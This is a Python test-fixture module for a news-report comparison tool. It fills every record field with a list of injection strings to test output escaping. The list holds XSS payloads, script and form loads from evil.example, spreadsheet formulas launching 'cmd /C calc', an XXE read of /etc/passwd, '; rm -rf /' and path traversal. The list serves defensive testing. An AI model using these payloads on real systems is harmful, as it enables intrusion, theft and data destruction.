"""What a hostile page may carry in its title, outlet, quotations, links and dates.

Each tries to run, to style, to break out of where it stands, to lead astray, or to reorder what a
person reads. After well-known lists of such strings (OWASP's filter evasion cheat sheet; Unicode
Technical Report 36), written anew for this project. What runs would call ``alert`` or set ``hit``.
"""

from __future__ import annotations

from dataclasses import replace

from firsthand.records import (
    Attribution,
    Bounds,
    Citation,
    Claim,
    Comparison,
    Conflict,
    Count,
    Derivation,
    Divergence,
    Evidence,
    Origin,
    Passage,
    Problem,
    Report,
    SharedSpeaker,
    Speaker,
    Story,
    Telling,
)
from firsthand.show.fragments import web_address

from .story import comparison

INJECTIONS = (
    # scripts
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script >",
    "<!--<script>--><script>alert(1)</script>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "'];alert(1);//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "${alert(1)}",
    "{{7*7}}{% print 1 %}{# #}",
    "{{ self.__init__.__globals__ }}",
    "<%= 7*7 %>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    # elements that run or load something
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'>",
    "</svg><img src=x onerror=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><button>Go</button></form>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>click</a>",
    # attributes
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "x onfocus=alert(1) autofocus tabindex=1 ",
    '"]{} x:is(["',
    "` onerror=`alert(1)",
    '"/><svg/onload=alert(1)>',
    # styles
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0;background:red'>",
    "</style><style>body{background:url(//evil.example/)}",
    "*/body{display:none}/*",
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/\"onclick='alert(1)'",
    "https://good.example@evil.example/<script>",
    "https://evil.example/#:~:text=<img src=x onerror=alert(1)>",
    "file:///etc/passwd",
    "http://[::1",
    # Unicode
    "good\u202egpj.exe\u202c",
    "\u2066\u2067\u2068\u202d\u202b left open",
    "\u200b\u200d\u2060\ufeff\u00ad invisible",
    "\u0410ssociated Press",
    "＜script＞alert(1)＜/script＞",
    "\u2028alert(1)\u2029",
    "a\u0300" + "\u0301" * 200 + " tower",
    "\U000e0041\U000e0042 tags",
    "\ud800 lone \udfff",
    "\x00\x08\x1b[2J\x9b31m\x7f",
    "\ufffe\uffff no characters",
    "ﷺ" * 40,
    "𝕬𝖑𝖊𝖗𝖙 👩‍👩‍👧‍👦🏳️‍🌈",
    # other formats
    "=HYPERLINK(\"https://evil.example/\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1|cmd",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1",
    "]]><x/><![CDATA[",
    "&lt;b&gt; &amp;amp; &#x3c;script&#x3e; &nbsp",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "![x](https://evil.example/x.png)",
    "[x](javascript:alert(1))",
    "<https://evil.example/>",
    "# heading\n---\n> quote\n```\ncode",
    "| a | b |\n|---|---|",
    '{"@context": "https://evil.example/"}',
    '"},{"__proto__":{"hit":1}},{"a":"',
    "__proto__",
    "constructor",
    "\r\nSet-Cookie: hit=1",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "; rm -rf /",
    "../../../../etc/passwd",
)  # fmt: skip


ADDRESSES = tuple(words for words in INJECTIONS if web_address(words))
"""Those that may be links, as the address of a report, once what cannot stand in one is escaped."""
NO_ADDRESSES = tuple(words for words in INJECTIONS if not web_address(words))


def infested() -> Comparison:
    """Return a story in which every field of every record holds one of the injections."""
    reports = tuple(_report(number, words) for number, words in enumerate(INJECTIONS))
    claims = (
        Claim(
            INJECTIONS[0],
            INJECTIONS[1],
            tuple(Telling(r.id, "a", r.attributions[0].content) for r in reports),
            tuple(f"s{n}" for n in range(len(INJECTIONS))),
            why=INJECTIONS[0],
        ),
    )
    places = [Evidence(report.id, report.attributions[0].content[0]) for report in reports]
    story = Story(
        INJECTIONS[2],
        tuple(report.id for report in reports),
        claims,
        tuple(
            SharedSpeaker(f"s{n}", words, "person", ((reports[n].id, "s"),))
            for n, words in enumerate(INJECTIONS)
        ),
        tuple(
            Derivation(report.id, f"o{n}", "relay", ((Evidence(report.id, (0, 5)),),), words)
            for n, (report, words) in enumerate(zip(reports, INJECTIONS, strict=True))
        ),
        tuple(Origin(f"o{n}", "unknown", words) for n, words in enumerate(INJECTIONS)),
        (Divergence(INJECTIONS[0], "changed", "name", (places[0], places[1])),),
        only_here=tuple(Evidence(r.id, r.passages[1].span) for r in reports),
        conflicts=(
            Conflict(None, "name", (places[2], places[3]), (places[2], places[3]), INJECTIONS[3]),
        ),
        count=Count(len(reports), 1, Bounds(0, 9), Bounds(0, 9), " ".join(INJECTIONS)),
    )
    problems = tuple(Problem(words, words) for words in INJECTIONS)
    return Comparison((story,), reports, problems)


def _report(number: int, words: str) -> Report:
    text = f"{words} begins. “{words}” says {words}.\n\nOwn: {words}!"
    start = text.index("“") + 1
    content = (start, start + len(words))
    speaker = text.rindex(words, 0, text.rindex("\n\n"))
    own = text.index("Own: ")
    return Report(
        id=f"{number} {words}",
        path=words,
        url=words,
        sha256=words,
        title=words,
        outlet=words,
        byline=words,
        published=words,
        published_from="given",
        language=words,
        text=text,
        passages=(Passage((0, own - 2)), Passage((own, len(text)), voice="comment")),
        attributions=(
            Attribution("a", "direct", (content,), ((speaker, speaker + len(words)),), speaker="s"),
        ),
        speakers=(Speaker("s", words, "person", ((speaker, speaker + len(words)),)),),
        citations=(Citation((0, len(words)), words, "outlet", (0, len(words)), href=words),),
        problems=(Problem(words, words),),
    )


def filled(text: str) -> Comparison:
    """Return the story with ``text`` in every field that holds outside text.

    The reports' own texts are ``text`` again and again, so that all spans still fit.
    """
    made = comparison()
    reports = tuple(_filled(report, text) for report in made.reports)
    (told,) = made.stories
    assert told.count
    told = replace(
        told,
        speakers=tuple(replace(s, name=text) for s in told.speakers),
        origins=tuple(replace(o, name=text) for o in told.origins),
        claims=tuple(replace(c, text=text, why=text) for c in told.claims),
        count=replace(told.count, why=text),
    )
    return Comparison((told,), reports, (Problem("x", text),))


def _filled(report: Report, text: str) -> Report:
    size = len(report.text)
    return replace(
        report,
        path=text + report.id,
        url=text,
        title=text,
        outlet=text,
        byline=text,
        published=text,
        language=text,
        text=(f"{text} " * size)[:size],
        speakers=tuple(replace(s, name=text) for s in report.speakers),
        citations=tuple(replace(c, outlet=text, href=text) for c in report.citations),
        problems=tuple(replace(p, message=text) for p in report.problems),
    )
